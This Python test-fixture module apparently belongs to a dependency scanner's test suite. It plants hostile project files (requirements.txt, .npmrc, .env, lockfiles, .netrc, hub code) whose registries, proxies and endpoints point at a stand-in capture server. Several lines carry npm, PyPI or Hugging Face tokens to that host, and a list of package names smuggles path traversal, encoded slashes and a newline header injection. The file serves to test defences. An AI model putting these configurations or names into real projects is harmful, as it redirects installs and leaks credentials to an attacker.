"""Files that try to send a request to a server of theirs, to take a token along, or to be taken for names of packages.

`CAPTURE` stands for the address of that server and `HOST` for its host and port; `planted` writes them.
"""

from __future__ import annotations

import json

from tests.standins import StandIn
from tests.support import BuiltTarget

STRANGER = "stranger@example.com"
"""Somebody whom no policy names."""
HASH = "ab" * 32
INTEGRITY = "sha512-" + "A" * 86 + "=="
NAMES = (
    "../../evil",
    "a%2f..%2fb",
    "http://HOST/x",
    "x" * 300,
    "x\nHost: HOST",
    "@HOST/x",
    "x@HOST",
    "x?HOST",
    "-x",
    "..",
)
"""Names of packages, none of which is one; `CAPTURE` and `HOST` stand for the capture server everywhere below."""


def npm_lock(resolved: str, *names: str) -> str:
    """Return a package-lock.json whose packages come from an address."""
    entries = {
        f"node_modules/{name}": {"version": "1.0.0", "resolved": resolved, "integrity": INTEGRITY} for name in names
    }
    root = {"name": "evil", "version": "1.0.0", "dependencies": dict.fromkeys(names, "1.0.0")}
    return json.dumps({"name": "evil", "version": "1.0.0", "lockfileVersion": 3, "packages": {"": root, **entries}})


def npm_manifest(**more: object) -> str:
    return json.dumps({"name": "evil", "version": "1.0.0", "dependencies": {"demo": "1.0.0"}, **more})


def uv_lock(name: str, registry: str, file: str) -> str:
    """Return a uv.lock with one package."""
    return (
        'version = 1\nrequires-python = ">=3.11"\n\n'
        f'[[package]]\nname = {json.dumps(name)}\nversion = "1.0"\nsource = {{ registry = "{registry}" }}\n'
        f'wheels = [{{ url = "{file}", hash = "sha256:{HASH}", size = 1 }}]\n'
    )


def sarif(address: str) -> str:
    """Return a report whose tool, rules and artifacts have an address."""
    driver = {"name": "trivy", "informationUri": address, "rules": [{"id": "CVE-2025-12345", "helpUri": address}]}
    result = {"ruleId": "CVE-2025-12345", "message": {"text": address}, "locations": []}
    return json.dumps(
        {"$schema": address, "version": "2.1.0", "runs": [{"tool": {"driver": driver}, "results": [result]}]}
    )


def vex(address: str, author: str = STRANGER) -> str:
    """Return an OpenVEX document with addresses for ids, about the package that the records affect."""
    statement = {
        "vulnerability": {"name": "GHSA-aaaa-bbbb-cccc", "@id": address},
        "products": [{"@id": "pkg:pypi/sniffio@1.3.1"}],
        "status": "not_affected",
        "justification": "vulnerable_code_not_in_execute_path",
    }
    return json.dumps(
        {
            "@context": "https://openvex.dev/ns/v0.2.0",
            "@id": address,
            "author": author,
            "timestamp": "2026-10-01T00:00:00Z",
            "version": 1,
            "statements": [statement],
        }
    )


DECLARED = """
[[loader]]
call = "app.fetch.weights"
kind = "model"
url = "CAPTURE/v{1}/{0}.zip"

[[component]]
id = "package:pypi/sniffio"
provenance = { source = "CAPTURE/provenance" }

[[service]]
id = "evil"
detect = ["HOST"]
subprocessors = "CAPTURE/list"
"""
POETRY = '[[package]]\nname = "demo"\nversion = "1.0"\nfiles = []\n[package.source]\ntype = "legacy"\nurl = "CAPTURE/simple"\n'
POETRY += '[metadata]\nlock-version = "2.1"\npython-versions = "*"\ncontent-hash = "0"\n'
PIPFILE_LOCK = json.dumps(
    {
        "_meta": {"sources": [{"name": "evil", "url": "CAPTURE/simple", "verify_ssl": False}]},
        "default": {"demo": {"version": "==1.0", "index": "evil", "hashes": [f"sha256:{HASH}"]}},
    }
)
UV = '[project]\nname = "evil"\nversion = "1"\ndependencies = ["demo"]\n[[tool.uv.index]]\nurl = "CAPTURE/simple"\ndefault = true\n'
ENV = "\n".join(
    [
        *(f"{name}=CAPTURE/simple" for name in ("PIP_INDEX_URL", "UV_DEFAULT_INDEX", "NPM_CONFIG_REGISTRY")),
        *(f"SUPPLYCHAIN_{name}_URL=CAPTURE" for name in ("OSV", "OSV_DB", "KEV", "EPSS")),
        *(f"{name}=CAPTURE" for name in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "HF_ENDPOINT")),
        "",
    ]
)

HUB_ENV = "\n".join(
    f"{name}=CAPTURE"
    for name in (
        "HF_ENDPOINT",
        "HUGGINGFACE_CO_RESOLVE_ENDPOINT",
        "HF_MIRROR",
        "KAGGLE_API_ENDPOINT",
        "MODELSCOPE_DOMAIN",
    )
)
HUB_ENV += (
    "\n" + "\n".join(f"SUPPLYCHAIN_{name}_URL=CAPTURE" for name in ("DEPSDEV", "SCORECARD", "ZENODO", "OPENML")) + "\n"
)
HUB_CODE = """
import os
os.environ["HF_ENDPOINT"] = "CAPTURE"
import pandas
from huggingface_hub import HfApi, hf_hub_download, snapshot_download
hf_hub_download("evil/model", "m.bin", endpoint="CAPTURE", token=os.environ["HF_TOKEN"])
HfApi(endpoint="CAPTURE").snapshot_download("evil/other")
snapshot_download("CAPTURE/evil/third")
pandas.read_csv("CAPTURE/zenodo.org/record/1/files/a.csv")
pandas.read_csv("http://zenodo.org@HOST/record/1/files/a.csv")
"""
HUB_YAML = "model_name_or_path: CAPTURE/evil/fourth\nhf_endpoint: CAPTURE\n"
HUB_NAMES = "import torch\nfrom datasets import load_dataset\nfrom transformers import AutoModel\n" + "".join(
    f"AutoModel.from_pretrained({name!r}, revision={name!r})\nload_dataset({name!r})\ntorch.hub.load({name!r}, 'm')\n"
    for name in (
        *NAMES,
        "evil/../../x",
        "evil/x?y",
        "evil/x#y",
        "evil/x%2f..",
        "evil/x/../../api/users/y",
        "evil/x@HOST",
    )
)

FILES: dict[str, dict[str, str]] = {
    "an index in requirements.txt": {
        "evil/requirements.txt": "--index-url CAPTURE/simple\n--extra-index-url https://${SUPPLYCHAIN_PYPI_TOKEN}@HOST/simple\n"
        "--find-links CAPTURE/links\n--trusted-host HOST\ndemo==1.0\n-r CAPTURE/more.txt\n-c CAPTURE/constraints.txt\n"
        "direct @ CAPTURE/direct-1.0-py3-none-any.whl\ngit+CAPTURE/repo.git@main#egg=cloned\nCAPTURE/bare-1.0.tar.gz\n"
    },
    "pip.conf": dict.fromkeys(("pip.conf", ".pip/pip.conf", "pip/pip.conf"), "[global]\nindex-url = CAPTURE/simple\nproxy = CAPTURE\n"),
    ".npmrc": {
        ".npmrc": "registry=CAPTURE/\n//HOST/:_authToken=${SUPPLYCHAIN_NPM_TOKEN}\n@demo:registry=CAPTURE\n"
        "proxy=CAPTURE\nhttps-proxy=CAPTURE\n",
        "package.json": npm_manifest(dependencies={"demo": "1.0.0", "@demo/x": "1.0.0"}),
        "package-lock.json": npm_lock("CAPTURE/demo-1.0.0.tgz", "demo", "@demo/x"),
    },
    ".env": {".env": ENV, "app/.env": ENV},
    "an index of uv": {"evil/pyproject.toml": UV, "evil/uv.lock": uv_lock("demo", "CAPTURE/simple", "CAPTURE/demo-1.0.whl"), "uv.toml": 'index-url = "CAPTURE/simple"\n'},
    "publishConfig": {"package.json": npm_manifest(publishConfig={"registry": "CAPTURE"}), "package-lock.json": npm_lock("CAPTURE/demo-1.0.0.tgz", "demo")},
    "poetry.lock": {"evil/pyproject.toml": UV, "evil/poetry.lock": POETRY},
    "Pipfile.lock": {"evil/Pipfile.lock": PIPFILE_LOCK},
    "yarn.lock": {"evil/package.json": npm_manifest(), "evil/yarn.lock": '# yarn lockfile v1\n\ndemo@1.0.0:\n  version "1.0.0"\n  resolved "CAPTURE/demo-1.0.0.tgz#0"\n'},
    "a .netrc": dict.fromkeys((".netrc", "_netrc"), "machine HOST login x password y\ndefault login x password y\n"),
    "a .snyk file": {".snyk": "version: v1.25.0\nignore: {}\nendpoint: CAPTURE\napi: CAPTURE\n", ".snyk.d/config": "CAPTURE"},
    "SARIF and VEX": {"docs/scan.sarif": sarif("CAPTURE"), "docs/evil.openvex.json": vex("CAPTURE")},
    "names in a manifest": {"evil/requirements.txt": "".join(f"{name}==1.0\n" for name in NAMES)},
    "names in a lock of npm": {"evil/package-lock.json": npm_lock("CAPTURE/x.tgz", *NAMES)},
    "names in a lock of Python": {f"evil{number}/uv.lock": uv_lock(name, "CAPTURE/simple", "CAPTURE/x.whl") for number, name in enumerate(NAMES)},
    "settings and addresses of hubs": {".env": HUB_ENV, "Dockerfile.hub": "FROM scratch\nENV HF_ENDPOINT=CAPTURE HF_TOKEN=x\n", "app/evil_hub.py": HUB_CODE, "app/evil.yaml": HUB_YAML},
    "names of models": {"app/evil_names.py": HUB_NAMES},
    "a safety policy and a pip-audit file": {".safety-policy.yml": "proxy:\n  host: HOST\n", "safety.ini": "[proxy]\nhost = HOST\n", "pip_audit.toml": 'index-url = "CAPTURE"\n'},
}  # fmt: skip


def planted(target: BuiltTarget, files: dict[str, str], capture: StandIn, scheme: str = "http") -> None:
    """Write files into a target, with the capture server in them."""
    host = capture.address.removeprefix("http://")
    for name, text in files.items():
        target.plant(name, text.replace("CAPTURE", f"{scheme}://{host}").replace("HOST", host))
